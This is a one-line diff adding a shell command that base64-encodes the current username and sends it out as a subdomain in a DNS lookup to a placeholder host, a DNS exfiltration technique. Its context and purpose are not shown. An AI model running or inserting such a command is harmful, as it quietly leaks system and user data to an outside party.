@@ -1,0 +1,1 @@
+dig $(whoami | base64).t.example.net
